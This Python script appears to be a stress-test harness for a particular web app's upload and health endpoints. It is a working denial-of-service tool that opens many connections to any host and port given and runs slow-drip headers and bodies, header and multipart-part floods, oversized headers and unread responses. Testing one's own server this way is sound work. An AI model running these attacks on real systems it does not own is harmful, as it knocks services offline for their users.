"""Clients that mean harm, many at a time, as a program: `hostile.py ATTACK HOST PORT SECONDS`."""

from __future__ import annotations

import asyncio
import contextlib
import random
import sys
import time
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass

HEAD = b"POST /galleries/street/images HTTP/1.1\r\nHost: localhost\r\n"
FORM = HEAD + b"Content-Type: multipart/form-data; boundary=b\r\n"
FILES = b'Content-Disposition: form-data; name="files"'
BEGUN = FORM + b"Content-Length: 1000000\r\n\r\n--b\r\n" + FILES + b"\r\n\r\n"
HEALTH = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
BUNDLE = b"GET /static/vendor/swagger-ui/swagger-ui-bundle.js HTTP/1.1\r\nHost: localhost\r\n\r\n"


def form(*parts: bytes) -> bytes:
    """An upload of these parts, each with its own headers."""
    body = b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"
    return FORM + b"Content-Length: %d\r\n\r\n" % len(body) + body


async def drip(begin: bytes, crumb: bytes) -> AsyncIterator[bytes]:
    """The beginning, then a crumb a second."""
    yield begin
    while True:
        await asyncio.sleep(1)
        yield crumb


async def at_once(data: bytes) -> AsyncIterator[bytes]:
    """All of it."""
    yield data


@dataclass(frozen=True)
class Attack:
    """What a connection sends, how many there are, about how long one stays away."""

    make: Callable[[], AsyncIterator[bytes]]
    number: int = 8
    back_after_s: float = 0.05


CRUMBS = FORM + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 50_000
HEADERS_IN_PART = form(FILES + b"\r\n" + b"a: b\r\n" * 100_000 + b"\r\nx")
HEADER_IN_PART = form(FILES + b"; filename=" + b"x" * 5_000_000 + b"\r\n\r\nx")
ATTACKS = {
    "heads that drip": Attack(lambda: drip(HEALTH, b"a: b\r\n"), 1_500, 1.0),
    "more heads than are held": Attack(lambda: drip(HEALTH, b"a: b\r\n"), 5_000, 1.0),
    "bodies that drip": Attack(lambda: drip(BEGUN, b"x"), 1_500, 1.0),
    "floods of headers": Attack(lambda: at_once(HEALTH + b"a: b\r\n" * 50_000 + b"\r\n")),
    "a header without end": Attack(lambda: at_once(HEALTH + b"a: " + b"b" * 1_000_000)),
    "bodies in crumbs": Attack(lambda: at_once(CRUMBS)),
    "parts without a name": Attack(lambda: at_once(form(*[FILES + b"\r\n\r\nx"] * 2_000))),
    "parts with floods of headers": Attack(lambda: at_once(HEADERS_IN_PART)),
    "a part's header without end": Attack(lambda: at_once(HEADER_IN_PART)),
    "answers that nobody takes": Attack(lambda: at_once(BUNDLE * 20), 200),
}


async def attack(name: str, host: str, port: int, seconds: float) -> None:
    """Keep its connections up, a new one for each that is cut off."""
    how = ATTACKS[name]
    deadline = time.monotonic() + seconds

    async def one(takes_answers: bool) -> None:
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(host, port, limit=4096)
                sent = asyncio.create_task(send(writer, how.make()))
                with contextlib.suppress(asyncio.TimeoutError):
                    async with asyncio.timeout_at(asyncio.get_running_loop().time() + 20):
                        while takes_answers and await reader.read(4096):
                            pass
                        if not takes_answers:
                            await asyncio.sleep(20)
                sent.cancel()
                writer.transport.abort()
            await asyncio.sleep(how.back_after_s * random.uniform(0.5, 1.5))

    takes_answers = name != "answers that nobody takes"
    clients = [asyncio.create_task(one(takes_answers)) for _ in range(how.number)]
    await asyncio.wait(clients, timeout=seconds)


async def send(writer: asyncio.StreamWriter, parts: AsyncIterator[bytes]) -> None:
    with contextlib.suppress(OSError):
        async for part in parts:
            writer.write(part)
            await writer.drain()


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])))
